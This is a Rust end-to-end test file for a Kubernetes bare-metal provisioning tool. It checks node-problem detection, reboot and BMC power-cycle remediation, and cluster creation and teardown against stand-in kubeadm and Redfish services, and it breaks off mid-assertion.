//! End to end: a real coordinator, real agents, the strict stand-in kubeadm.

use std::path::Path;
use std::time::Duration;

use time::format_description::well_known::Rfc3339;
use time::OffsetDateTime;

use drover_tests::kube::{self, kubectl, ready_nodes};
use drover_tests::*;

const BOOT: Duration = Duration::from_secs(90);

fn machine_by_host<'a>(machines: &'a [serde_json::Value], host: &str) -> &'a serde_json::Value {
    machines
        .iter()
        .find(|m| m["status"]["hostname"] == host)
        .unwrap_or_else(|| panic!("no machine with hostname {host}"))
}

fn apply(c: &Coordinator, dir: &Path, yaml: &str) {
    c.apply_yaml(dir, yaml);
}

/// Writes cluster `name`'s admin kubeconfig under `dir` and waits until real
/// kubectl lists `nodes` Ready Nodes through it; returns its path.
fn kubeconfig_with_ready_nodes(
    c: &Coordinator,
    dir: &Path,
    name: &str,
    nodes: usize,
) -> std::path::PathBuf {
    let kubeconfig = dir.join("kubeconfig");
    std::fs::write(&kubeconfig, c.cli_ok(&["kubeconfig", name])).unwrap();
    wait_for(&format!("{nodes} Ready Nodes in {name}"), BOOT, || {
        let ready = ready_nodes(&kubeconfig)?;
        (ready.len() == nodes)
            .then_some(())
            .ok_or(format!("{ready:?}"))
    });
    kubeconfig
}

fn rand_suffix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
}

fn exists(root: &Path, rel: &str) -> bool {
    root.join(rel.trim_start_matches('/')).exists()
}

/// Starts `n` agents on `boot`, rooted at `dir` + index under `tmp` and
/// named `host` + index.
fn start_agents(tmp: &Path, boot: &Path, n: usize, dir: &str, host: &str) -> Vec<Agent> {
    (0..n)
        .map(|i| Agent::start(&tmp.join(format!("{dir}{i}")), &format!("{host}{i}"), boot))
        .collect()
}

/// A coordinator with `n` pool machines labelled `env=dev`, named
/// `{host}0`, `{host}1`, ..., registered: the start of every pool-cluster
/// test. Bind the three in this order, so the agents and the coordinator
/// stop before the directory goes.
fn registered_pool(n: usize, host: &str) -> (tempfile::TempDir, Coordinator, Vec<Agent>) {
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", n as u32, "1h");
    let agents = start_agents(tmp.path(), &boot, n, "m", host);
    wait_registered(&c, n);
    (tmp, c, agents)
}

/// Waits until `n` machines have registered.
fn wait_registered(c: &Coordinator, n: usize) {
    c.wait_registered(n, BOOT);
}

/// The machine's condition `type_` as (status, reason, message), if any.
fn machine_condition(
    c: &Coordinator,
    machine: &str,
    type_: &str,
) -> Option<(String, String, String)> {
    let out = c.cli_ok(&["get", "machines", machine, "-o", "json"]);
    let m: serde_json::Value = serde_json::from_str(&out).expect("machine json");
    let m = if m.is_array() { m[0].clone() } else { m };
    m["status"]["conditions"]
        .as_array()?
        .iter()
        .find(|k| k["type"] == type_)
        .map(|k| {
            let s = |f: &str| k[f].as_str().unwrap_or_default().to_owned();
            (s("status"), s("reason"), s("message"))
        })
}

/// Waits until the machine's condition `type_` has `status`; its reason
/// and message.
fn wait_machine_condition(
    c: &Coordinator,
    machine: &str,
    type_: &str,
    status: &str,
) -> (String, String) {
    wait_for(
        &format!("{type_}={status} on {machine}"),
        BOOT,
        || match machine_condition(c, machine, type_) {
            Some((s, reason, message)) if s == status => Ok((reason, message)),
            other => Err(format!("{other:?}")),
        },
    )
}

/// A coordinator and one pool machine registered, its agent started with
/// `env`; the machine's name.
fn one_machine(
    host: &str,
    env: Vec<(String, String)>,
) -> (tempfile::TempDir, Coordinator, Agent, String) {
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 1, "1h");
    let agent = Agent::boot_with_env(&tmp.path().join("m0"), host, Boot::File(boot), env);
    wait_registered(&c, 1);
    let name = c.machines()[0]["metadata"]["name"]
        .as_str()
        .unwrap()
        .to_owned();
    (tmp, c, agent, name)
}

#[test]
fn a_machines_node_problems_are_its_conditions_and_in_metrics_until_they_clear() {
    // The agent judges its disk by the kubelet's --eviction-hard, given
    // here as one no real disk passes: less than 100% free.
    let (_tmp, c, mut agent, name) = one_machine(
        "sick-0",
        vec![(
            "DROVER_EVICTION_HARD".into(),
            "nodefs.available<100%".into(),
        )],
    );
    let (reason, message) = wait_machine_condition(&c, &name, "DiskPressure", "True");
    assert_eq!(reason, "DiskSpaceLow");
    assert!(
        message.contains("/var/lib/kubelet (nodefs, ")
            && message.contains("free space below nodefs.available<100%"),
        "{message}"
    );
    let described = c.cli_ok(&["describe", "machine", &name]);
    assert!(
        described.contains("DiskPressure = True since ") && described.contains("(DiskSpaceLow)"),
        "{described}"
    );
    let metrics = c.metrics_text();
    assert!(
        metrics.contains("drover_machine_problems{problem=\"DiskPressure\"} 1"),
        "{metrics}"
    );
    // Bounds no disk crosses (not the kubelet's defaults: the disk the
    // tests run on may well be below those): the problem is gone, the
    // condition says so, and no machine counts under it any more.
    agent.restart_with_env(vec![(
        "DROVER_EVICTION_HARD".into(),
        "nodefs.available<0%,nodefs.inodesFree<0%,imagefs.available<0%,imagefs.inodesFree<0%"
            .into(),
    )]);
    let (reason, _) = wait_machine_condition(&c, &name, "DiskPressure", "False");
    assert_eq!(reason, "NoLongerSeen");
    let metrics = c.metrics_text();
    assert!(!metrics.contains("drover_machine_problems{"), "{metrics}");
    drop(agent);
}

#[test]
fn a_hung_task_or_a_failing_disk_in_the_kernel_log_is_a_node_problem() {
    let (tmp, c, agent, name) = one_machine("kern-0", vec![]);
    // The machine's /dev/kmsg, under its root: what the kernel said.
    let dev = tmp.path().join("m0/dev");
    std::fs::create_dir_all(&dev).unwrap();
    std::fs::write(
        dev.join("kmsg"),
        "6,1,100,-;eth0: link up\n\
         3,2,200,-;INFO: task jbd2/sda1-8:231 blocked for more than 120 seconds.\n\
         3,3,300,-;blk_update_request: I/O error, dev sdb, sector 2048 op 0x0:(READ)\n",
    )
    .unwrap();
    let (reason, message) = wait_machine_condition(&c, &name, "KernelDeadlock", "True");
    assert_eq!(reason, "TaskHung");
    assert!(
        message.contains("task jbd2/sda1-8:231 blocked for more than 120 seconds."),
        "{message}"
    );
    let (reason, message) = wait_machine_condition(&c, &name, "DeviceError", "True");
    assert_eq!(reason, "IOError");
    assert!(message.contains("I/O error, dev sdb"), "{message}");
    let metrics = c.metrics_text();
    for problem in ["KernelDeadlock", "DeviceError"] {
        assert!(
            metrics.contains(&format!(
                "drover_machine_problems{{problem=\"{problem}\"}} 1"
            )),
            "{metrics}"
        );
    }
    drop(agent);
}

#[test]
fn node_problems_are_node_conditions_kubectl_sees_beside_the_kubelets_own() {
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 1, "1h");
    let root = tmp.path().join("m0");
    let agent = Agent::boot_with_env(
        &root,
        "npd-0",
        Boot::File(boot),
        vec![("DROVER_NODE_CONDITIONS".into(), "true".into())],
    );
    wait_registered(&c, 1);
    apply(&c, tmp.path(), &pool_cluster_yaml("npd", 1, 0, "dev"));
    c.wait_cluster_phase("npd", "Running", BOOT);
    let kubeconfig = kubeconfig_with_ready_nodes(&c, tmp.path(), "npd", 1);
    // (status reason lastHeartbeatTime) of the Node's condition `t`, as
    // kubectl reads it.
    let condition = |t: &str| -> Result<String, String> {
        let path = format!(
            "jsonpath={{.status.conditions[?(@.type==\"{t}\")].status}} {{.status.conditions[?(@.type==\"{t}\")].reason}} {{.status.conditions[?(@.type==\"{t}\")].lastHeartbeatTime}}"
        );
        kubectl(&kubeconfig, &["get", "node", "npd-0", "-o", &path]).map(|s| s.trim().to_owned())
    };
    let wait_condition = |t: &str, want: &str| {
        wait_for(&format!("{t} {want} on the Node"), BOOT, || {
            let got = condition(t)?;
            got.starts_with(want).then_some(got.clone()).ok_or(got)
        })
    };
    wait_condition("KernelDeadlock", "False KernelHasNoDeadlock");
    wait_condition("ReadOnlyFilesystem", "False FilesystemIsNotReadOnly");
    std::fs::create_dir_all(root.join("dev")).unwrap();
    std::fs::write(
        root.join("dev/kmsg"),
        "3,7,700,-;INFO: task kworker/0:1:42 blocked for more than 122 seconds.\n",
    )
    .unwrap();
    wait_condition("KernelDeadlock", "True TaskHung");
    // The kubelet renews its Ready condition beside it and leaves it be:
    // each writer patches only its own conditions.
    let ready = wait_condition("Ready", "True KubeletReady");
    wait_for("the kubelet to renew its Node status", BOOT, || {
        let now = condition("Ready")?;
        (now != ready).then_some(()).ok_or(now)
    });
    assert!(
        condition("KernelDeadlock")
            .unwrap()
            .starts_with("True TaskHung"),
        "the kubelet's renewal kept the agent's condition"
    );
    // The kubelet's own pressure conditions are not the agent's to set.
    assert_eq!(condition("DiskPressure").unwrap(), "");
    drop(agent);
}

/// The environment that starts a process with its clock `shift` off
/// (`+120s`): Debian's libfaketime preloaded (scripts/setup-host installs
/// it), the monotonic clock left alone so timers run true.
fn clock_off_by(shift: &str) -> Vec<(String, String)> {
    let lib = std::fs::read_dir("/usr/lib")
        .unwrap()
        .flatten()
        .map(|d| d.path().join("faketime/libfaketime.so.1"))
        .find(|p| p.exists())
        .expect("libfaketime is installed (scripts/setup-host)");
    vec![
        ("LD_PRELOAD".into(), lib.display().to_string()),
        ("FAKETIME".into(), shift.into()),
        ("FAKETIME_DONT_FAKE_MONOTONIC".into(), "1".into()),
    ]
}

#[test]
fn a_machine_whose_clock_is_off_reports_clock_skew_until_it_keeps_time() {
    let (_tmp, c, mut agent, name) = one_machine("skewed-0", clock_off_by("+120s"));
    let (reason, message) = wait_machine_condition(&c, &name, "ClockSkew", "True");
    assert_eq!(reason, "ClockOffsetLarge");
    assert!(
        message
            .contains("clock is ahead of the coordinator's by more than --max-clock-offset 10 s"),
        "{message}"
    );
    let metrics = c.metrics_text();
    assert!(
        metrics.contains("drover_machine_problems{problem=\"ClockSkew\"} 1"),
        "{metrics}"
    );
    // Its clock keeps time again.
    agent.restart_with_env(vec![]);
    let (reason, _) = wait_machine_condition(&c, &name, "ClockSkew", "False");
    assert_eq!(reason, "NoLongerSeen");
    drop(agent);
}

/// The events of machine `name`, as (reason, message), oldest first.
fn machine_events(c: &Coordinator, name: &str) -> Vec<(String, String)> {
    let ms = c.machines();
    let m = ms
        .iter()
        .find(|m| m["metadata"]["name"] == name)
        .unwrap_or_else(|| panic!("no machine {name}"));
    m["status"]["events"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|e| {
            (
                e["reason"].as_str().unwrap_or_default().to_owned(),
                e["message"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

/// Waits until machine `name` has an event of `reason`; all its events.
fn wait_event(c: &Coordinator, name: &str, reason: &str, what: &str) -> Vec<(String, String)> {
    wait_for(what, BOOT, || {
        let events = machine_events(c, name);
        if events.iter().any(|(r, _)| r == reason) {
            Ok(events)
        } else {
            Err(format!("{events:?}"))
        }
    })
}

/// The message of the first event of `reason` among `events`.
fn event_message(events: &[(String, String)], reason: &str) -> String {
    events
        .iter()
        .find(|(r, _)| r == reason)
        .map(|(_, m)| m.clone())
        .unwrap_or_else(|| panic!("no {reason} event: {events:?}"))
}

/// Waits until a machine claimed in `worker`'s place runs.
fn wait_replaced(c: &Coordinator, worker: &str, what: &str) {
    wait_for(what, BOOT, || {
        let ms = c.machines();
        let spare = ms
            .iter()
            .find(|m| m["spec"]["assignment"]["replaces"] == worker);
        match spare {
            Some(s) if s["status"]["phase"] == "Running" => Ok(()),
            other => Err(format!("{other:?}")),
        }
    });
}

/// Applies pool cluster `name` (one control plane, one worker) over
/// `agents`, the worker pool's remediation `remediation` (YAML lines at
/// the pool's indentation) and `health` (lines under `spec.health`; a pool
/// of one may lose its one machine only with `maxUnhealthy: 100%`), waits
/// until it runs, and returns the worker's machine name and its agent's
/// index.
fn one_worker_cluster(
    c: &Coordinator,
    dir: &Path,
    agents: &[Agent],
    name: &str,
    remediation: &str,
    health: &str,
) -> (String, usize) {
    let yaml = pool_cluster_yaml(name, 1, 1, "dev")
        .replace(
            "      replicas: 1\n  provider:",
            &format!("      replicas: 1\n      remediation:\n{remediation}  provider:"),
        )
        .replace(
            "  controlPlane:",
            &format!("  health:\n{health}  controlPlane:"),
        );
    assert!(
        yaml.contains(remediation) && yaml.contains(health),
        "{yaml}"
    );
    apply(c, dir, &yaml);
    c.wait_cluster_phase(name, "Running", BOOT);
    let ms = c.machines();
    let w = ms
        .iter()
        .find(|m| m["spec"]["assignment"]["role"] == "worker")
        .expect("a worker");
    let at = agents
        .iter()
        .position(|a| w["status"]["hostname"] == a.hostname.as_str())
        .expect("the worker's agent");
    (w["metadata"]["name"].as_str().unwrap().to_owned(), at)
}

#[test]
fn a_pool_worker_with_a_listed_problem_is_rebooted_then_replaced_when_it_stays() {
    // The worker pool lists DiskPressure among its remediation conditions.
    // Once the cluster runs, the worker's agent judges its disk short (a
    // bound no disk passes). A "reboot" here is the reboot command giving
    // the machine a new boot ID (the agent's --boot-id-file), as a real
    // one would.
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 3, "1h");
    let reboot = tmp.path().join("reboot.sh");
    std::fs::write(
        &reboot,
        "date +%s%N > \"$DROVER_BOOT_ID_FILE\"\necho rebooting\n",
    )
    .unwrap();
    // Bounds no disk crosses (not the kubelet's defaults: the disk the
    // tests run on may well be below those), or, `short`, one every disk
    // crosses.
    let env = |i: usize, short: bool| {
        let root = tmp.path().join(format!("m{i}"));
        std::fs::create_dir_all(&root).unwrap();
        let boot_file = root.join("boot-id");
        if !boot_file.exists() {
            std::fs::write(&boot_file, "first-boot").unwrap();
        }
        let bounds = if short {
            "nodefs.available<100%"
        } else {
            "nodefs.available<0%,nodefs.inodesFree<0%,imagefs.available<0%,imagefs.inodesFree<0%"
        };
        vec![
            ("DROVER_EVICTION_HARD".to_owned(), bounds.to_owned()),
            (
                "DROVER_BOOT_ID_FILE".to_owned(),
                boot_file.display().to_string(),
            ),
            (
                "DROVER_REBOOT_COMMAND".to_owned(),
                format!("/bin/sh {}", reboot.display()),
            ),
        ]
    };
    let mut agents: Vec<Agent> = (0..2)
        .map(|i| {
            Agent::boot_with_env(
                &tmp.path().join(format!("m{i}")),
                &format!("rb-{i}"),
                Boot::File(boot.clone()),
                env(i, false),
            )
        })
        .collect();
    wait_registered(&c, 2);
    // A pool of one may lose its one machine only with maxUnhealthy 100 %.
    let (worker, at) = one_worker_cluster(
        &c,
        tmp.path(),
        &agents,
        "fixme",
        "        strategy: RebootThenReplace\n        rebootTimeout: 60s\n        conditions: [DiskPressure]\n",
        "    unhealthyTimeout: 3s\n    maxUnhealthy: 100%\n",
    );
    agents[at].restart_with_env(env(at, true));

    // Asked to reboot: the agent cordons its Node with the kubelet's own
    // credentials, runs the reboot command, and comes back with a new boot
    // ID, which the coordinator records.
    let events = wait_event(&c, &worker, "Rebooted", "the worker to be rebooted");
    let said = |reason: &str| event_message(&events, reason);
    assert!(
        said("RebootRequested").contains("node problem DiskPressure"),
        "{events:?}"
    );
    let started = said("RebootStarted");
    assert!(
        started.contains(" cordoned; /bin/sh ")
            && started.contains("asked the init system to reboot"),
        "the agent cordoned its Node itself: {started}"
    );
    // Still short of disk after the reboot: once the unhealthy timeout has
    // passed again, a spare takes its place.
    let _spare = Agent::boot_with_env(
        &tmp.path().join("m2"),
        "rb-2",
        Boot::File(boot.clone()),
        env(2, false),
    );
    wait_replaced(&c, &worker, "the spare to replace the rebooted worker");
    let events = machine_events(&c, &worker);
    assert!(
        events
            .iter()
            .any(|(r, m)| r == "Unhealthy" && m.contains("still unhealthy after a reboot")),
        "{events:?}"
    );
    let described = c.cli_ok(&["describe", "machine", &worker]);
    assert!(
        described.contains("Reboot:         reboot-1 (by its agent) asked ")
            && described.contains(": back "),
        "{described}"
    );
    let metrics = c.metrics_text();
    assert!(
        metrics.contains("drover_remediation_reboots_total{reason=\"problem\"} 1"),
        "{metrics}"
    );
    assert!(
        metrics.contains("drover_remediations_total{reason=\"problem\"} 1"),
        "{metrics}"
    );
    drop(agents);
}

#[test]
fn a_hung_pool_worker_is_power_cycled_through_its_bmc_and_one_not_back_is_replaced() {
    // The worker's BMC is a fake system of sushy-tools' Redfish emulator.
    // Its notifications of power changes are the test's wiring to the
    // "hardware": Off kills the machine's agent, On boots it again with a
    // new boot ID.
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 3, "1h");
    let env = |i: usize| {
        let root = tmp.path().join(format!("m{i}"));
        std::fs::create_dir_all(&root).unwrap();
        let boot_file = root.join("boot-id");
        if !boot_file.exists() {
            std::fs::write(&boot_file, "first-boot").unwrap();
        }
        vec![(
            "DROVER_BOOT_ID_FILE".to_owned(),
            boot_file.display().to_string(),
        )]
    };
    let mut agents: Vec<Agent> = (0..2)
        .map(|i| {
            Agent::boot_with_env(
                &tmp.path().join(format!("m{i}")),
                &format!("pc-{i}"),
                Boot::File(boot.clone()),
                env(i),
            )
        })
        .collect();
    wait_registered(&c, 2);
    // A pool of one may lose its one machine only with maxUnhealthy 100 %.
    let (worker, at) = one_worker_cluster(
        &c,
        tmp.path(),
        &agents,
        "cycle",
        "        strategy: RebootThenReplace\n        rebootTimeout: 20s\n",
        "    heartbeatTimeout: 4s\n    maxUnhealthy: 100%\n",
    );

    let bmc = drover_tests::redfish::Redfish::start(&tmp.path().join("redfish"), &["w-bmc"]);
    let secret = |name: &str, password: &str| {
        serde_json::json!({
            "apiVersion": "drover.dev/v1alpha1",
            "kind": "Secret",
            "metadata": {"name": name},
            "stringData": {
                "username": bmc.username,
                "password": password,
                "ca.crt": bmc.ca_pem,
            },
        })
        .to_string()
    };
    apply(&c, tmp.path(), &secret("bmc-wrong", "not-the-password"));
    apply(&c, tmp.path(), &secret("bmc", &bmc.password));
    // Wrong credentials are refused when the BMC is set, and nothing is
    // kept.
    let refused = c.cli(&[
        "bmc",
        "set",
        &worker,
        "--url",
        &bmc.url,
        "--credentials-secret",
        "bmc-wrong",
    ]);
    let said = String::from_utf8_lossy(&refused.stderr);
    assert!(
        !refused.status.success()
            && said.contains("refused the credentials of Secret bmc-wrong (401)"),
        "{said}"
    );
    let set = c.cli_ok(&[
        "bmc",
        "set",
        &worker,
        "--url",
        &bmc.url,
        "--credentials-secret",
        "bmc",
    ]);
    assert!(
        set.contains("power On") && set.contains("Secret bmc"),
        "{set}"
    );
    // A machine a cluster holds is not powered off by hand; on is a no-op
    // for a machine that is on.
    let off = c.cli(&["bmc", "power", &worker, "off"]);
    let said = String::from_utf8_lossy(&off.stderr);
    assert!(
        !off.status.success() && said.contains("serves cluster cycle"),
        "{said}"
    );
    let on = c.cli_ok(&["bmc", "power", &worker, "on"]);
    assert!(on.contains("already On"), "{on}");
    // The Secret a BMC names stays while it does.
    let delete = c.cli(&["delete", "secret", "bmc"]);
    let said = String::from_utf8_lossy(&delete.stderr);
    assert!(
        !delete.status.success()
            && said.contains(&format!("holds the BMC credentials of machine {worker}")),
        "{said}"
    );

    // The worker hangs: silent past the heartbeat timeout, it cannot be
    // asked to reboot, so its BMC power-cycles it.
    agents[at].hang();
    let off = bmc.next_change("w-bmc", BOOT);
    assert_eq!(
        (off.power_state.as_str(), off.pending.as_deref()),
        ("Off", Some("ForceRestart")),
        "{off:?}"
    );
    agents[at].kill();
    let on = bmc.next_change("w-bmc", Duration::from_secs(30));
    assert_eq!(on.power_state, "On", "{on:?}");
    let boot_file = tmp.path().join(format!("m{at}/boot-id"));
    std::fs::write(&boot_file, "second-boot").unwrap();
    agents[at].restart();
    let events = wait_event(
        &c,
        &worker,
        "Rebooted",
        "the worker to be back from its power cycle",
    );
    let said = |reason: &str| event_message(&events, reason);
    assert!(
        said("PowerCycleRequested").contains("its agent cannot be reached"),
        "{events:?}"
    );
    assert!(
        said("RebootStarted").contains("ForceRestart (was On)"),
        "{events:?}"
    );
    assert!(
        said("Rebooted").contains("back with boot ID second-boot"),
        "{events:?}"
    );
    c.wait_cluster_phase("cycle", "Running", BOOT);
    let m = c
        .machines()
        .into_iter()
        .find(|m| m["metadata"]["name"] == worker.as_str())
        .unwrap();
    assert_eq!(m["spec"]["assignment"]["role"], "worker", "not replaced");
    let described = c.cli_ok(&["describe", "machine", &worker]);
    assert!(
        described.contains("(power cycle by its BMC) asked ")
            && described.contains(&format!("BMC:            {}", bmc.url)),
        "{described}"
    );
    assert!(
        c.metrics_text()
            .contains("drover_bmc_power_actions_total{action=\"cycle\",result=\"ok\"} 1"),
        "{}",
        c.metrics_text()
    );

    // Hung again, and this time power comes back but the machine does not
    // boot: after rebootTimeout a spare takes its place.
    let _spare = Agent::boot_with_env(
        &tmp.path().join("m2"),
        "pc-2",
        Boot::File(boot.clone()),
        env(2),
    );
    wait_registered(&c, 3);
    agents[at].hang();
    let off = bmc.next_change("w-bmc", BOOT);
    assert_eq!(off.power_state, "Off", "{off:?}");
    agents[at].kill();
    wait_replaced(&c, &worker, "the spare to replace the worker not back");
    let events = machine_events(&c, &worker);
    assert!(
        events
            .iter()
            .any(|(r, m)| r == "Unhealthy" && m.contains("not back from the power cycle asked")),
        "{events:?}"
    );
    drop(agents);
}

#[test]
fn a_pool_worker_whose_container_runtime_stops_is_replaced_per_its_pool() {
    // Every machine runs a stand-in container runtime on its CRI socket,
    // which its agent checks with real gRPC (Version, Status).
    let (tmp, c, boot) = coordinator_with_token("default", "env=dev", 3, "1h");
    let socket = |i: usize| {
        tmp.path()
            .join(format!("m{i}/run/containerd/containerd.sock"))
    };
    let mut runtimes: Vec<StandinCri> = (0..3).map(|i| StandinCri::start(&socket(i))).collect();
    let boot_agent = |i: usize| {
        Agent::boot_with_env(
            &tmp.path().join(format!("m{i}")),
            &format!("cri-{i}"),
            Boot::File(boot.clone()),
            vec![(
                "DROVER_CRI_SOCKET".to_owned(),
                socket(i).display().to_string(),
            )],
        )
    };
    let agents: Vec<Agent> = (0..2).map(boot_agent).collect();
    wait_registered(&c, 2);
    // A pool of one may lose its one machine only with maxUnhealthy 100 %.
    let (worker, at) = one_worker_cluster(
        &c,
        tmp.path(),
        &agents,
        "runtime",
        "        strategy: Replace\n        conditions: [ContainerRuntimeUnhealthy]\n",
        "    unhealthyTimeout: 3s\n    maxUnhealthy: 100%\n",
    );
    // Healthy runtimes report nothing.
    for m in &c.machines() {
        let conditions = m["status"]["conditions"].to_string();
        assert!(
            !conditions.contains("ContainerRuntimeUnhealthy"),
            "{conditions}"
        );
    }
    let _spare = boot_agent(2);
    wait_registered(&c, 3);

    // The worker's runtime stops: its agent's check cannot reach it.
    runtimes[at].stop();
    let (reason, message) =
        wait_machine_condition(&c, &worker, "ContainerRuntimeUnhealthy", "True");
    assert_eq!(reason, "CRIUnreachable", "{message}");
    assert!(message.contains("containerd.sock"), "{message}");
    // Listed by its pool, with Replace: a spare takes its place.
    wait_replaced(&c, &worker, "the spare to replace the worker");
    let events = machine_events(&c, &worker);
    assert!(
        events
            .iter()
            .any(|(r, m)| r == "Unhealthy" && m.contains("node problem ContainerRuntimeUnhealthy")),
        "{events:?}"
    );
    drop(agents);
}

#[test]
fn one_control_plane_two_workers_reach_running_and_release_on_delete() {
    let (tmp, c, agents) = registered_pool(3, "node-");
    apply(&c, tmp.path(), &pool_cluster_yaml("demo", 1, 2, "dev"));
    c.wait_cluster_phase("demo", "Running", BOOT);

    // kubeadm upgrades one minor release at a time: skipping one is
    // refused, naming what is allowed.
    let f = tmp.path().join("upgrade.yaml");
    let err = c.apply_refused(
        &f,
        &pool_cluster_yaml("demo", 1, 2, "dev").replace("v1.31.2", "v1.33.0"),
    );
    assert!(
        err.contains("spec.kubernetesVersion")
            && err.contains("cannot go from v1.31.2 to v1.33.0")
            && err.contains("v1.32"),
        "{err}"
    );
    assert_eq!(
        c.cluster("demo").unwrap()["spec"]["kubernetesVersion"],
        "v1.31.2"
    );

    let machines = c.machines();
    let mut init_root = None;
    for a in &agents {
        let m = machine_by_host(&machines, &a.hostname);
        let role = m["spec"]["assignment"]["role"].as_str().unwrap().to_owned();
        assert_eq!(m["status"]["phase"], "Running", "{m}");
        let subs = a.kubeadm_subcommands();
        match role.as_str() {
            "init" => {
                init_root = Some(a.root.clone());
                assert_eq!(subs.iter().filter(|s| *s == "init").count(), 1, "{subs:?}");
                assert!(!subs.contains(&"join".to_string()));
                for f in drover_common::kubeadm::SHARED_CA_FILES {
                    assert!(
                        exists(&a.root, &format!("etc/kubernetes/pki/{f}")),
                        "{f} missing on the init machine"
                    );
                }
                assert!(exists(&a.root, "etc/kubernetes/admin.conf"));
            }
            "worker" => {
                assert_eq!(subs, vec!["join".to_string()], "worker ran {subs:?}");
                // kubeadm join wrote ca.crt from cluster-info; no CA key ever reached a worker.
                assert!(exists(&a.root, "etc/kubernetes/kubelet.conf"));
                for key in ["ca.key", "etcd/ca.key", "front-proxy-ca.key", "sa.key"] {
                    assert!(
                        !exists(&a.root, &format!("etc/kubernetes/pki/{key}")),
                        "{key} on a worker"
                    );
                }
                let argv: Vec<String> =
                    serde_json::from_value(a.kubeadm_calls()[0]["argv"].clone()).unwrap();
                assert_eq!(argv[1..3], ["join".to_string(), "--config".to_string()]);
                assert_eq!(argv[3], "/etc/drover/kubeadm.yaml");
                assert!(argv.contains(&"--rootfs".to_string()));
            }
            other => panic!("unexpected role {other}"),
        }
        // Every call the stand-in saw succeeded.
        for call in a.kubeadm_calls() {
            assert_eq!(call["exit"], 0, "kubeadm call failed: {call}");
        }
    }
    let init_root = init_root.expect("an init machine");
    // The workers joined with a token the init machine registered (kubeadm init or token create).
    let cp_subs: Vec<String> = agents
        .iter()
        .find(|a| a.root == init_root)
        .unwrap()
        .kubeadm_subcommands();
    assert!(
        cp_subs.iter().all(|s| s == "init" || s == "token create"),
        "{cp_subs:?}"
    );

    // Operator views.
    let table = c.cli_ok(&["get", "machines"]);
    assert!(
        table.contains("HEARTBEAT") && table.matches("Running").count() == 3,
        "{table}"
    );
    let wide = c.cli_ok(&["get", "machines", "-o", "wide"]);
    assert!(wide.contains("node-0"), "{wide}");
    let clusters = c.cli_ok(&["get", "clusters"]);
    assert!(
        clusters.contains("demo") && clusters.contains("Running") && clusters.contains("2/2"),
        "{clusters}"
    );
    // The background tasks: all registered, and the reconciler, which
    // brought the cluster to Running, has run.
    let tasks: Vec<serde_json::Value> =
        serde_json::from_str(&c.cli_ok(&["get", "tasks", "-o", "json"])).unwrap();
    let names: Vec<&str> = tasks.iter().filter_map(|t| t["name"].as_str()).collect();
    assert_eq!(
        names,
        [
            "registration-committer",
            "cluster-reconciler",
            "stall-clock",
            "fleet-summary",
            "change-log",
            "free-machines",
            "orphan-sweeper",
            "gateway-listeners",
            "memory-trimmer",
            "endpoint-proxies"
        ],
        "{tasks:?}"
    );
    let committer = &tasks[0];
    assert!(
        committer["runs"].as_u64().unwrap() >= 1 && committer["periodMillis"] == 0,
        "three registrations were committed: {committer}"
    );
    let reconciler = &tasks[1];
    assert!(
        reconciler["runs"].as_u64().unwrap() >= 1
            && reconciler["lastRunStarted"].is_string()
            && reconciler["periodMillis"].as_u64().unwrap() > 0,
        "{reconciler}"
    );
    let table = c.cli_ok(&["get", "tasks"]);
    assert!(
        table.contains("NAME")
            && table.contains("NEXT RUN")
            && table.contains("cluster-reconciler"),
        "{table}"
    );
    let name = machine_by_host(&machines, "node-1")["metadata"]["name"]
        .as_str()
        .unwrap()
        .to_owned();
    let described = c.cli_ok(&["describe", "machine", &name]);
    assert!(
        described.contains("Phase:          Running")
            && described.contains("kubelet:      Healthy"),
        "{described}"
    );
    let kc = c.cli_ok(&["kubeconfig", "demo"]);
    let endpoint = c.cluster("demo").unwrap()["status"]["controlPlaneEndpoint"]
        .as_str()
        .unwrap()
        .to_owned();
    assert!(kc.contains(&format!("server: https://{endpoint}")), "{kc}");
    assert!(kc.contains("client-certificate-data"));
    // Inside the cluster, with real kubectl: the three machines are Ready
    // Nodes (the workers' kubelets got their certificates by TLS bootstrap).
    let kubeconfig = tmp.path().join("demo.kubeconfig");
    std::fs::write(&kubeconfig, &kc).unwrap();
    wait_for("three Ready Nodes", BOOT, || {
        let ready = ready_nodes(&kubeconfig)?;
        if ready == ["node-0", "node-1", "node-2"] {
            Ok(())
        } else {
            Err(format!("Ready: {ready:?}"))
        }
    });

    // Deleting the cluster resets every machine and returns it to the pool.
    c.cli_ok(&["delete", "cluster", "demo", "--wait", "--timeout", "90s"]);
    assert!(c.cluster("demo").is_none());
    wait_for("machines back in the pool", BOOT, || {
        let ms = c.machines();
        let free = ms
            .iter()
            .filter(|m| m["status"]["phase"] == "Registered" && m["spec"]["assignment"].is_null())
            .count();
        if free == 3 {
            Ok(())
        } else {
            Err(format!("{free} free"))
        }
    });
    for a in &agents {
        assert_eq!(
            a.kubeadm_subcommands().last().map(String::as_str),
            Some("reset")
        );
        assert!(!exists(&a.root, "etc/kubernetes/admin.conf"));
        assert!(!exists(&a.root, "etc/kubernetes/kubelet.conf"));
    }

    // The released machines can serve a new cluster.
    apply(&c, tmp.path(), &pool_cluster_yaml("again", 1, 0, "dev"));
    c.wait_cluster_phase("again", "Running", BOOT);
}

#[test]
fn three_control_planes_one_init_two_joins_with_shared_ca_set() {
    let (tmp, c, boot) = coordinator_with_token("cp", "env=ha", 3, "1h");
    let agents = start_agents(tmp.path(), &boot, 3, "cp", "cp-");
    wait_registered(&c, 3);
    apply(&c, tmp.path(), &pool_cluster_yaml("ha", 3, 0, "ha"));
    c.wait_cluster_phase("ha", "Running", BOOT);
    let mut inits = 0;
    let mut joins = 0;
    let mut ca = None;
    for a in &agents {
        let subs = a.kubeadm_subcommands();
        inits += subs.iter().filter(|s| *s == "init").count();
        joins += subs.iter().filter(|s| *s == "join").count();
        for f in drover_common::kubeadm::SHARED_CA_FILES {
            assert!(
                exists(&a.root, &format!("etc/kubernetes/pki/{f}")),
                "{f} missing on {}",
                a.hostname
            );
        }
        let this_ca = std::fs::read_to_string(a.root.join("etc/kubernetes/pki/ca.crt")).unwrap();
        if let Some(prev) = &ca {
            assert_eq!(
                prev, &this_ca,
